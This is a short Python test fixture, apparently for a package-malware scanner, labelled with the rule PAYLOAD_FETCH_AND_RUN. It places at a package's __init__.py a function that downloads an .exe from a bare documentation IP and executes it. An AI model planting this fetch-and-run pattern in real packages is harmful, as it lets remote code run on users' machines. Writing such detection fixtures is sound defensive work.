# canary-test: path=clears/__init__.py artifact=sdist
# Fetch an .exe from a bare IP and run it (documentation address, inert name).
import os

import requests


def main():
    response = requests.get("http://203.0.113.7/inert.exe")
    with open("inert.exe", "wb") as f:
        f.write(response.content)
    os.system("inert.exe")
# ruleid: PAYLOAD_FETCH_AND_RUN
